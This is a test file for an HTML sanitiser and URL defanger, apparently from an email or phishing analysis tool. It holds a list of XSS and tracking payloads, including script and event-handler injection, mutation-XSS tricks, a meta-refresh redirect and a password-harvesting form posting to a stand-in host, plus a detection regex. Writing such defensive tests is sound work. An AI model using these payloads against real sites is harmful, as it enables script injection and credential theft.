import assert from 'node:assert/strict';
import { test } from 'node:test';
import { defang } from './defang.js';
import { sanitiseHtml, textDocument } from './html-sanitise.js';

/** What must never survive: anything that runs, loads or navigates. */
const DANGER = /<script|<iframe|<object|<embed|<svg|<math|<img|<form|<input|<link|<base|<meta(?! charset| http-equiv="Content-Security-Policy")|<style>(?!body\{font)|\son\w+=|href=|src=|action=|style="|javascript:|https?:\/\//i;

const ATTACKS: [string, string][] = [
  ['script-tag', '<p>hi</p><script>alert(1)</script>'],
  ['script-split-by-nesting', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script-unclosed', '<p>x<script>alert(1)'],
  ['event-handler-attribute', '<p onclick="alert(1)" onmouseover=alert(2)>x</p>'],
  ['javascript-href-entity-encoded', '<a href="jav&#x61;script:alert(1)">x</a>'],
  ['img-onerror', '<img src=x onerror=alert(1)>'],
  ['remote-image-tracking-pixel', '<img src="https://track.example/p.gif?u=1" width=1 height=1>'],
  ['css-url-remote-load', '<div style="background:url(https://track.example/a)">x</div><style>@import url(https://e.example/a.css)</style>'],
  ['svg-onload', '<svg/onload=alert(1)><circle/></svg>'],
  ['math-foreign-content', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['iframe-srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['meta-refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['base-href-hijack', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['form-password-harvest', '<form action="https://collect.example"><input type=password name=pw><button>Sign in</button></form>'],
  ['attribute-quote-breakout', '<td title=\'"><script>alert(1)</script>\'>x</td>'],
  ['comment-confusion', '<!--><script>alert(1)</script>--><p>x</p>'],
  ['unterminated-attribute', '<p title="abc>text<script>alert(1)</script>'],
  ['link-stylesheet', '<link rel=stylesheet href=https://e.example/x.css><p>x</p>'],
  ['object-embed', '<object data="https://e.example/x.swf"></object><embed src="https://e.example/y">'],
  ['video-poster', '<video poster="https://e.example/p.png"><source src="https://e.example/v.mp4"></video>'],
  ['background-attribute', '<table background="https://e.example/bg.png"><tr><td>x</td></tr></table>'],
  ['text-url', '<p>visit https://evil.example/login now</p>'],
  ['bare-lt', '<p>1 < 2 and <<script>alert(1)//<</script></p>'],
];

for (const [name, html] of ATTACKS) {
  test(`sanitiser: ${name} neutralised`, () => {
    const out = sanitiseHtml(html).html;
    const body = out.slice(out.indexOf('<body>'));
    assert.doesNotMatch(body, DANGER, body);
  });
}

test('sanitiser keeps text, structure and tells the analyst what was there', () => {
  const r = sanitiseHtml('<table border=1><tr><td colspan=2><b>Dear</b> user,</td></tr></table><a href="https://login.evil.example/a">Log in</a><img src="https://t.example/x.gif" alt="Bank logo">');
  assert.match(r.html, /<table border="1"><tr><td colspan="2"><b>Dear<\/b> user,<\/td><\/tr><\/table>/);
  assert.match(r.html, /Log in<\/span> <span class="sw-href">\[hxxps:\/\/login\[\.\]evil\[\.\]example\/a\]<\/span>/);
  assert.match(r.html, /\[remote image from t\[\.\]example not loaded: Bank logo\]/);
  assert.equal(r.remoteImages, 1);
  assert.equal(r.links, 1);
});

test('sanitiser: ten thousand unclosed tags and a 2 MB attribute finish in linear time', () => {
  const many = '<div><a href="https://x.example/">'.repeat(10_000);
  assert.ok(sanitiseHtml(many).html.length > 0);
  const long = `<p title="${'a'.repeat(2_000_000)}">x</p>`;
  assert.ok(sanitiseHtml(long).html.includes('<p'));
  const scripts = '<script>x'.repeat(100_000);
  assert.doesNotMatch(sanitiseHtml(scripts).html, /<script/);
});

test('plain-text bodies are escaped and their URLs defanged', () => {
  const r = textDocument('<b>not bold</b> https://evil.example/x');
  assert.match(r.html, /<pre>&lt;b&gt;not bold&lt;\/b&gt; hxxps:\/\/evil\[\.\]example\/x<\/pre>/);
});

test('defang: schemes and hosts', () => {
  assert.equal(defang('https://login.evil.example/a.b'), 'hxxps://login[.]evil[.]example/a.b');
  assert.equal(defang('http://user@1.2.3.4:8080/'), 'hxxp://user[@]1[.]2[.]3[.]4:8080/');
  assert.equal(defang('javascript:alert(1)'), 'javascript[:]alert(1)');
  assert.equal(defang('mailto:a@b.example'), 'mailto[:]a[@]b[.]example');
});
